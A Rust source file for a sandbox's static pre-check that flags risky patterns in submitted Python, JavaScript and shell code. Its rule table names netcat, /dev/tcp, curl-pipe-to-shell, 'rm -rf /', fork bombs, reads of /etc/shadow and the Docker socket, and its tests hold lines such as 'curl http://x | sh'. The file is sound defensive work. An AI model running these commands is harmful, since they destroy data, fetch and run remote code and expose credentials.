//! Static pre-check of submitted code (`SecurityManager::validate_code`).
//!
//! The pre-check only reports risky patterns for the audit log and the user.
//! It is not the security boundary: the namespace/seccomp/Landlock/cgroup
//! isolation is. Findings block execution only when the policy sets
//! `block_on_severity`.

use serde::{Deserialize, Serialize};

/// Severity of a finding, ordered from least to most severe.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Severity {
    /// Informational.
    Low,
    /// Worth a look.
    Medium,
    /// Likely an attempt to reach outside the sandbox.
    High,
    /// Destructive or clearly malicious.
    Critical,
}

/// One risky pattern found in submitted code.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Finding {
    /// Severity.
    pub severity: Severity,
    /// Stable rule identifier, e.g. `py.subprocess`.
    pub rule_id: String,
    /// 1-based line number.
    pub line: usize,
    /// Human-readable explanation.
    pub message: String,
}

/// Which languages a rule applies to.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Lang {
    Python,
    JavaScript,
    Shell,
    Any,
}

struct Rule {
    id: &'static str,
    lang: Lang,
    severity: Severity,
    /// All needles must occur on the line (after whitespace normalisation).
    needles: &'static [&'static str],
    message: &'static str,
}

const RULES: &[Rule] = &[
    Rule {
        id: "py.subprocess",
        lang: Lang::Python,
        severity: Severity::Medium,
        needles: &["subprocess"],
        message: "spawns host-style subprocesses (subprocess module)",
    },
    Rule {
        id: "py.os_system",
        lang: Lang::Python,
        severity: Severity::Medium,
        needles: &["os.system("],
        message: "runs a shell command via os.system",
    },
    Rule {
        id: "py.os_popen",
        lang: Lang::Python,
        severity: Severity::Medium,
        needles: &["os.popen("],
        message: "runs a shell command via os.popen",
    },
    Rule {
        id: "py.os_exec",
        lang: Lang::Python,
        severity: Severity::Medium,
        needles: &["os.exec"],
        message: "replaces the process via os.exec*",
    },
    Rule {
        id: "py.socket",
        lang: Lang::Python,
        severity: Severity::Medium,
        needles: &["socket"],
        message: "uses network sockets",
    },
    Rule {
        id: "py.ctypes",
        lang: Lang::Python,
        severity: Severity::High,
        needles: &["ctypes"],
        message: "calls native code via ctypes",
    },
    Rule {
        id: "py.eval",
        lang: Lang::Python,
        severity: Severity::Low,
        needles: &["eval("],
        message: "evaluates dynamic code with eval()",
    },
    Rule {
        id: "py.exec",
        lang: Lang::Python,
        severity: Severity::Low,
        needles: &["exec("],
        message: "executes dynamic code with exec()",
    },
    Rule {
        id: "py.fork",
        lang: Lang::Python,
        severity: Severity::Medium,
        needles: &["os.fork("],
        message: "forks processes (possible fork bomb)",
    },
    Rule {
        id: "py.unshare",
        lang: Lang::Python,
        severity: Severity::High,
        needles: &["unshare"],
        message: "tries to create namespaces",
    },
    Rule {
        id: "py.ptrace",
        lang: Lang::Python,
        severity: Severity::High,
        needles: &["ptrace"],
        message: "tries to trace processes",
    },
    Rule {
        id: "js.child_process",
        lang: Lang::JavaScript,
        severity: Severity::Medium,
        needles: &["child_process"],
        message: "spawns processes via child_process",
    },
    Rule {
        id: "js.net",
        lang: Lang::JavaScript,
        severity: Severity::Medium,
        needles: &["require('net')"],
        message: "uses raw network sockets",
    },
    Rule {
        id: "js.net",
        lang: Lang::JavaScript,
        severity: Severity::Medium,
        needles: &["require(\"net\")"],
        message: "uses raw network sockets",
    },
    Rule {
        id: "js.dgram",
        lang: Lang::JavaScript,
        severity: Severity::Medium,
        needles: &["dgram"],
        message: "uses UDP sockets",
    },
    Rule {
        id: "js.http",
        lang: Lang::JavaScript,
        severity: Severity::Low,
        needles: &["fetch("],
        message: "makes HTTP requests",
    },
    Rule {
        id: "js.eval",
        lang: Lang::JavaScript,
        severity: Severity::Low,
        needles: &["eval("],
        message: "evaluates dynamic code with eval()",
    },
    Rule {
        id: "js.function_ctor",
        lang: Lang::JavaScript,
        severity: Severity::Low,
        needles: &["new function("],
        message: "builds code with the Function constructor",
    },
    Rule {
        id: "js.process_binding",
        lang: Lang::JavaScript,
        severity: Severity::High,
        needles: &["process.binding"],
        message: "reaches node internals via process.binding",
    },
    Rule {
        id: "sh.rm_rf_root",
        lang: Lang::Shell,
        severity: Severity::Critical,
        needles: &["rm -rf / "],
        message: "deletes the whole filesystem (rm -rf /)",
    },
    Rule {
        id: "sh.rm_rf_root",
        lang: Lang::Shell,
        severity: Severity::Critical,
        needles: &["rm -rf /*"],
        message: "deletes the whole filesystem (rm -rf /*)",
    },
    Rule {
        id: "sh.rm_rf_root",
        lang: Lang::Shell,
        severity: Severity::Critical,
        needles: &["rm -fr / "],
        message: "deletes the whole filesystem (rm -fr /)",
    },
    Rule {
        id: "sh.curl_pipe_sh",
        lang: Lang::Shell,
        severity: Severity::High,
        needles: &["curl", "| sh"],
        message: "pipes a download into a shell",
    },
    Rule {
        id: "sh.curl_pipe_sh",
        lang: Lang::Shell,
        severity: Severity::High,
        needles: &["curl", "| bash"],
        message: "pipes a download into a shell",
    },
    Rule {
        id: "sh.wget_pipe_sh",
        lang: Lang::Shell,
        severity: Severity::High,
        needles: &["wget", "| sh"],
        message: "pipes a download into a shell",
    },
    Rule {
        id: "sh.fork_bomb",
        lang: Lang::Shell,
        severity: Severity::High,
        needles: &[":(){"],
        message: "classic shell fork bomb",
    },
    Rule {
        id: "sh.fork_bomb",
        lang: Lang::Shell,
        severity: Severity::High,
        needles: &[":|:&"],
        message: "classic shell fork bomb",
    },
    Rule {
        id: "sh.dev_tcp",
        lang: Lang::Shell,
        severity: Severity::Medium,
        needles: &["/dev/tcp/"],
        message: "opens network connections via /dev/tcp",
    },
    Rule {
        id: "sh.nc",
        lang: Lang::Shell,
        severity: Severity::Medium,
        needles: &["nc -"],
        message: "uses netcat",
    },
    Rule {
        id: "sh.mount",
        lang: Lang::Shell,
        severity: Severity::High,
        needles: &["mount "],
        message: "tries to mount filesystems",
    },
    Rule {
        id: "any.etc_shadow",
        lang: Lang::Any,
        severity: Severity::High,
        needles: &["/etc/shadow"],
        message: "reads host password hashes (/etc/shadow)",
    },
    Rule {
        id: "any.etc_read",
        lang: Lang::Any,
        severity: Severity::Medium,
        needles: &["/etc/passwd"],
        message: "reads the user database (/etc/passwd)",
    },
    Rule {
        id: "any.proc_environ",
        lang: Lang::Any,
        severity: Severity::Medium,
        needles: &["/environ"],
        message: "reads process environments via /proc",
    },
    Rule {
        id: "any.docker_sock",
        lang: Lang::Any,
        severity: Severity::High,
        needles: &["docker.sock"],
        message: "targets the Docker socket",
    },
    Rule {
        id: "any.crypto_miner",
        lang: Lang::Any,
        severity: Severity::High,
        needles: &["stratum+tcp"],
        message: "crypto-mining pool URL",
    },
];

/// Static pre-check of code for risky patterns.
#[derive(Debug, Clone, Default)]
pub struct SecurityManager {
    block_on: Option<Severity>,
}

impl SecurityManager {
    /// A manager that blocks code with findings at or above `block_on` (None = never).
    pub fn new(block_on: Option<Severity>) -> Self {
        Self { block_on }
    }

    /// Reports risky patterns in `code` written in `language` (name or alias).
    pub fn validate_code(&self, code: &str, language: &str) -> Vec<Finding> {
        validate_code(code, language)
    }

    /// The first finding that reaches the blocking severity, if any.
    pub fn blocking<'a>(&self, findings: &'a [Finding]) -> Option<&'a Finding> {
        let min = self.block_on?;
        findings.iter().find(|f| f.severity >= min)
    }
}

fn lang_of(language: &str) -> Lang {
    match language.trim().to_ascii_lowercase().as_str() {
        "python" | "py" | "python3" => Lang::Python,
        "javascript" | "js" | "node" | "nodejs" => Lang::JavaScript,
        "shell" | "sh" | "bash" => Lang::Shell,
        _ => Lang::Any,
    }
}

/// Reports risky patterns in `code` written in `language` (free function form).
pub fn validate_code(code: &str, language: &str) -> Vec<Finding> {
    let lang = lang_of(language);
    let mut out = Vec::new();
    let mut fork_in_loop = false;
    let mut in_loop_indent: Option<usize> = None;
    for (idx, raw) in code.lines().enumerate() {
        let line_no = idx + 1;
        let norm: String = raw.split_whitespace().collect::<Vec<_>>().join(" ").to_ascii_lowercase();
        let padded = format!("{norm} ");
        for rule in RULES {
            if rule.lang != Lang::Any && rule.lang != lang {
                continue;
            }
            if rule.needles.iter().all(|n| padded.contains(n))
                && !out.iter().any(|f: &Finding| f.rule_id == rule.id && f.line == line_no)
            {
                out.push(Finding {
                    severity: rule.severity,
                    rule_id: rule.id.to_string(),
                    line: line_no,
                    message: rule.message.to_string(),
                });
            }
        }
        // Fork loops: a fork call inside a `while`/`for` body.
        let indent = raw.len() - raw.trim_start().len();
        if let Some(loop_indent) = in_loop_indent {
            if !raw.trim().is_empty() && indent <= loop_indent {
                in_loop_indent = None;
            }
        }
        let is_loop = norm.starts_with("while ")
            || norm.starts_with("for ")
            || norm.contains("while(")
            || norm.contains("while true");
        let forks = norm.contains("fork(") || norm.contains("fork()");
        if (in_loop_indent.is_some() || is_loop) && forks && !fork_in_loop {
            fork_in_loop = true;
            out.push(Finding {
                severity: Severity::High,
                rule_id: "any.fork_loop".into(),
                line: line_no,
                message: "forks inside a loop (fork bomb); bounded by the pids limit".into(),
            });
        }
        if is_loop {
            in_loop_indent = Some(indent);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn python_patterns() {
        let f = validate_code(
            "import subprocess\nimport os\nos.system('ls')\nopen('/etc/shadow')\nwhile True:\n    os.fork()\n",
            "python",
        );
        let ids: Vec<_> = f.iter().map(|f| (f.rule_id.as_str(), f.line)).collect();
        assert!(ids.contains(&("py.subprocess", 1)), "{ids:?}");
        assert!(ids.contains(&("py.os_system", 3)), "{ids:?}");
        assert!(ids.contains(&("any.etc_shadow", 4)), "{ids:?}");
        assert!(ids.contains(&("any.fork_loop", 6)), "{ids:?}");
    }

    #[test]
    fn shell_and_js_patterns() {
        let f = validate_code("curl http://x | sh\nrm -rf /\n", "sh");
        let ids: Vec<_> = f.iter().map(|f| f.rule_id.as_str()).collect();
        assert!(ids.contains(&"sh.curl_pipe_sh") && ids.contains(&"sh.rm_rf_root"), "{ids:?}");
        let f = validate_code("const cp = require('child_process');", "javascript");
        assert_eq!(f[0].rule_id, "js.child_process");
        assert!(validate_code("print(1+1)", "python").is_empty());
    }

    #[test]
    fn blocking_threshold() {
        let m = SecurityManager::new(Some(Severity::Critical));
        let f = m.validate_code("rm -rf /", "bash");
        assert!(m.blocking(&f).is_some());
        assert!(SecurityManager::default().blocking(&f).is_none());
    }
}
